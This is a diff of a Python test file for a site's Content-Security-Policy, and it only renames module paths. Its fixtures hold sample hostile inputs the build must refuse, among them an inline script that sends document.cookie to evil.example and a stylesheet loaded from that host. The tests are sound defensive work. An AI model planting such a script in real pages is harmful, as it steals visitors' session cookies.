@@ -1,8 +1,8 @@
-"""Every page carries the site's Content-Security-Policy (kb/csp.py), the firewall holds pages to it, and a
+"""Every page carries the site's Content-Security-Policy (kb/publish/csp.py), the firewall holds pages to it, and a
 browser enforces it: the site as built causes no violation, and an outside load planted in a page is blocked.
 
 The policy allows scripts from the site itself and the theme's inline scripts by hash, from the same list the
-output firewall reads (kb.csp.INLINE_SCRIPTS); no origin but the site's.
+output firewall reads (kb.publish.csp.INLINE_SCRIPTS); no origin but the site's.
 """
 from __future__ import annotations
 
@@ -13,9 +13,9 @@ from playwright.sync_api import Error as PlaywrightError
 
 from browser import chromium, search, serve
 from conftest import SITE_PORT, SITE_URL, build, edit
-from kb import layout
-from kb.csp import DIRECTIVES, INLINE_SCRIPTS, POLICY, main as csp_main, script_hash, site_inline_scripts
-from kb.html_rules import Scripts, inspect_html
+from kb.project import layout
+from kb.publish.csp import DIRECTIVES, INLINE_SCRIPTS, POLICY, main as csp_main, script_hash, site_inline_scripts
+from kb.publish.html_rules import Scripts, inspect_html
 
 KEYWORDS = {"'self'", "'none'", "'wasm-unsafe-eval'", "'unsafe-inline'", "data:"}
 
@@ -69,7 +69,7 @@ PALETTE = ("var palette=__md_get(\"__palette\");if(palette&&palette.color){if(\"
 
 REFUSED = {
     "an inline script a template adds": ("<script>fetch('https://evil.example/'+document.cookie)</script>", "",
-                                         "inline script that kb.csp.INLINE_SCRIPTS does not list (sha256-"),
+                                         "inline script that kb.publish.csp.INLINE_SCRIPTS does not list (sha256-"),
     "a listed script changed by one character": (f"<script>{PALETTE} </script>", "", "does not list"),
     "an outside stylesheet (extra_css)": ('<link rel="stylesheet" href="https://evil.example/x.css">', "",
                                           "which is not a file of the theme or the project"),
@@ -225,6 +225,6 @@ def test_the_build_refuses_a_theme_script_an_outside_stylesheet_and_web_fonts(pr
     result = build(project, tmp_path / "site")
     log = result.stdout + result.stderr
     assert result.returncode != 0, log
-    assert "inline script that kb.csp.INLINE_SCRIPTS does not list" in log
+    assert "inline script that kb.publish.csp.INLINE_SCRIPTS does not list" in log
     assert "loads https://evil.example/x.css" in log
     assert "fonts.googleapis.com" in log and "fonts.gstatic.com" in log
